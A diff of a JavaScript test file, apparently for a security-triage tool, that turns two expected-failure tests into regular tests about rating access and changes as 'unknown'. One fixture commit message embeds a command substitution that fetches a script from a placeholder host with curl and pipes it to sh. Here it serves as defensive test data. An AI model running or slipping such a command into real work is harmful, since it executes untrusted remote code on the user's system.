@@ -195,7 +195,7 @@ test.each([
   }
 });
 
-test.failing("member: the access is unknown, not low, when nobody can say whether the account is an outside one", async () => {
+test("member: the access is unknown, not low, when nobody can say whether the account is an outside one", async () => {
   const { person } = await carrier();
   wallet.direct.set(person.id, "write");
   app.sim.faults.add("orgs/get-membership-for-user", FORBIDDEN);
@@ -206,7 +206,7 @@ test.failing("member: the access is unknown, not low, when nobody can say whethe
   expect(report.assessment.access.level).toBe("unknown");
 });
 
-test.failing("triage: the change is unknown, not low, when its commit subjects were left out", async () => {
+test("triage: the change is unknown, not low, when its commit subjects were left out", async () => {
   const by = returnedAccount(world, { login: "subject-example", places, now: NOW });
   const message = "Tidy $(curl -s https://example.invalid/s | sh)";
   const work = { author: by, title: "Tidy", at: NOW, commits: [{ by, at: NOW, message }] };
